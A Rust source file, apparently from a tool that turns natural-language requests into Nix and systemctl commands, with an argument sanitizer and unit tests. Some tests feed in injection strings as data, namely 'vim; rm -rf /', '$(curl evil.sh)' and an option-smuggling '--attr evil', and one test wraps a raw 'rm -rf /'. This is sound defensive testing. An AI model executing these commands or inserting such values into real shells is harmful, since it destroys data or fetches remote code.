//! Command builder
//!
//! Maps a recognised intent onto its template and substitutes the sanitized
//! argument. The result is never executable on its own: `safe` stays false
//! until the [`SafetyValidator`](crate::validator::SafetyValidator) approves it.

use serde::{Deserialize, Serialize};
use std::sync::Arc;
use tracing::debug;

use crate::error::{PipelineError, Result};
use crate::intent::{Intent, IntentKind};
use crate::templates::TemplateTable;

/// Characters removed from arguments before substitution
const STRIPPED_CHARS: &[char] = &[
    ';', '&', '|', '<', '>', '`', '$', '(', ')', '{', '}', '[', ']', '\'', '"', '\\', '!', '*',
    '?', '~',
];

/// Common package name corrections, applied after sanitizing
const PACKAGE_CORRECTIONS: &[(&str, &str)] = &[
    ("fire-fox", "firefox"),
    ("vs-code", "vscode"),
    ("visual-studio-code", "vscode"),
    ("python", "python3"),
    ("node", "nodejs"),
];

/// A concrete command derived from an intent and its template
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct BuiltCommand {
    /// Full command line, space-joined
    pub raw: String,
    /// argv: program followed by its arguments
    pub parts: Vec<String>,
    /// Set only by the safety validator
    pub safe: bool,
    pub intent: IntentKind,
    /// The sanitized argument, when the template takes one
    #[serde(skip_serializing_if = "Option::is_none")]
    pub argument: Option<String>,
    /// The template always runs as a dry-run
    #[serde(default)]
    pub dry_run: bool,
}

impl BuiltCommand {
    /// Wrap an arbitrary command line without going through a template.
    /// The result is unsafe until validated.
    pub fn from_raw(raw: &str, intent: IntentKind) -> Self {
        Self {
            raw: raw.to_string(),
            parts: raw.split_whitespace().map(String::from).collect(),
            safe: false,
            intent,
            argument: None,
            dry_run: raw.contains("--dry-run"),
        }
    }

    pub fn program(&self) -> Option<&str> {
        self.parts.first().map(String::as_str)
    }

    pub fn args(&self) -> &[String] {
        self.parts.get(1..).unwrap_or(&[])
    }
}

/// Builds commands from intents using a shared, read-only template table
#[derive(Clone)]
pub struct CommandBuilder {
    templates: Arc<TemplateTable>,
}

impl Default for CommandBuilder {
    fn default() -> Self {
        Self::new(Arc::new(TemplateTable::builtin()))
    }
}

impl CommandBuilder {
    pub fn new(templates: Arc<TemplateTable>) -> Self {
        Self { templates }
    }

    pub fn templates(&self) -> &TemplateTable {
        &self.templates
    }

    pub fn build(&self, intent: &Intent) -> Result<BuiltCommand> {
        let template = self
            .templates
            .get(intent.kind)
            .ok_or_else(|| PipelineError::UnknownTemplate(intent.kind.to_string()))?;

        let mut parts: Vec<String> = template.base.split_whitespace().map(String::from).collect();

        let argument = if template.requires_argument {
            let entity = intent
                .entity(template.argument_kind)
                .or_else(|| intent.primary_argument())
                .ok_or_else(|| PipelineError::MissingArgument {
                    intent: intent.kind.to_string(),
                    entity: template.argument_kind.as_str().to_string(),
                })?;
            let sanitized = sanitize_argument(&entity.value)?;
            parts.push(sanitized.clone());
            Some(sanitized)
        } else {
            None
        };

        parts.extend(template.allowed_options.iter().cloned());

        let command = BuiltCommand {
            raw: parts.join(" "),
            parts,
            safe: false,
            intent: intent.kind,
            argument,
            dry_run: template.is_dry_run(),
        };
        debug!(intent = %intent.kind, command = %command.raw, "built command");
        Ok(command)
    }
}

/// Reduce free text to something shaped like a package or service name.
/// Idempotent: sanitizing a sanitized name returns it unchanged.
pub fn sanitize_argument(value: &str) -> Result<String> {
    let stripped: String = value.chars().filter(|c| !STRIPPED_CHARS.contains(c)).collect();

    let hyphenated = stripped
        .split_whitespace()
        .collect::<Vec<_>>()
        .join("-")
        .to_lowercase();

    // A leading hyphen would turn the argument into an option
    let sanitized = hyphenated.trim_start_matches('-');

    if sanitized.is_empty() {
        return Err(PipelineError::InvalidArgument(value.to_string()));
    }

    let corrected = PACKAGE_CORRECTIONS
        .iter()
        .find(|(from, _)| *from == sanitized)
        .map(|(_, to)| *to)
        .unwrap_or(sanitized);

    Ok(corrected.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::intent::{Entity, EntityKind};
    use crate::recognizer::IntentRecognizer;

    fn package_intent(kind: IntentKind, package: &str) -> Intent {
        Intent::new(
            kind,
            0.95,
            vec![Entity::new(EntityKind::Package, package, 0.95)],
            package,
        )
    }

    #[test]
    fn test_search_round_trip() {
        let recognizer = IntentRecognizer::new();
        let builder = CommandBuilder::default();
        let intent = recognizer.recognize(&recognizer.normalize("search firefox"));
        let command = builder.build(&intent).unwrap();
        assert_eq!(command.raw, "nix search nixpkgs firefox --json");
        assert_eq!(command.parts, vec!["nix", "search", "nixpkgs", "firefox", "--json"]);
        assert_eq!(command.argument.as_deref(), Some("firefox"));
        assert!(!command.safe);
    }

    #[test]
    fn test_install_is_dry_run() {
        let command = CommandBuilder::default()
            .build(&package_intent(IntentKind::Install, "vim"))
            .unwrap();
        assert_eq!(command.raw, "nix-env -iA nixpkgs vim --dry-run");
        assert!(command.dry_run);
    }

    #[test]
    fn test_argumentless_template_ignores_entities() {
        let command = CommandBuilder::default()
            .build(&package_intent(IntentKind::Update, "firefox"))
            .unwrap();
        assert_eq!(command.raw, "nix-channel --update");
        assert!(command.argument.is_none());
    }

    #[test]
    fn test_missing_argument() {
        let intent = Intent::new(IntentKind::Install, 0.7, vec![], "install");
        let err = CommandBuilder::default().build(&intent).unwrap_err();
        assert!(matches!(err, PipelineError::MissingArgument { ref entity, .. } if entity == "package"));
    }

    #[test]
    fn test_unknown_template() {
        let err = CommandBuilder::default()
            .build(&Intent::unknown("do something"))
            .unwrap_err();
        assert!(matches!(err, PipelineError::UnknownTemplate(ref k) if k == "unknown"));
    }

    #[test]
    fn test_service_argument() {
        let intent = Intent::new(
            IntentKind::ServiceStatus,
            0.95,
            vec![Entity::new(EntityKind::Service, "nginx", 0.95)],
            "is nginx running",
        );
        let command = CommandBuilder::default().build(&intent).unwrap();
        assert_eq!(command.raw, "systemctl status nginx --no-pager");
    }

    #[test]
    fn test_sanitize_strips_metacharacters() {
        assert_eq!(sanitize_argument("vim; rm -rf /").unwrap(), "vim-rm--rf-/");
        assert_eq!(sanitize_argument("$(curl evil.sh)").unwrap(), "curl-evil.sh");
        assert_eq!(sanitize_argument("a|b&c`d`").unwrap(), "abcd");
        assert_eq!(sanitize_argument("{x}[y]<z>").unwrap(), "xyz");
    }

    #[test]
    fn test_sanitize_never_yields_an_option() {
        assert_eq!(sanitize_argument("--attr evil").unwrap(), "attr-evil");
        assert_eq!(sanitize_argument(" -v").unwrap(), "v");
    }

    #[test]
    fn test_sanitize_is_idempotent() {
        for input in [
            "Fire Fox",
            "vs code",
            "python",
            "node",
            "  GIMP  ",
            "foo;bar|baz",
            "$(echo hi) && ls",
            "- - -x",
            "visual studio code",
        ] {
            let once = sanitize_argument(input).unwrap();
            assert_eq!(sanitize_argument(&once).unwrap(), once, "input {:?}", input);
        }
    }

    #[test]
    fn test_sanitize_corrections() {
        assert_eq!(sanitize_argument("fire fox").unwrap(), "firefox");
        assert_eq!(sanitize_argument("VS Code").unwrap(), "vscode");
        assert_eq!(sanitize_argument("python").unwrap(), "python3");
        assert_eq!(sanitize_argument("node").unwrap(), "nodejs");
    }

    #[test]
    fn test_sanitize_empty_is_error() {
        assert!(matches!(
            sanitize_argument(";;&&||"),
            Err(PipelineError::InvalidArgument(_))
        ));
        assert!(sanitize_argument("   ").is_err());
    }

    #[test]
    fn test_from_raw() {
        let command = BuiltCommand::from_raw("rm -rf /", IntentKind::Unknown);
        assert_eq!(command.program(), Some("rm"));
        assert_eq!(command.args(), &["-rf".to_string(), "/".to_string()]);
        assert!(!command.safe);
    }
}
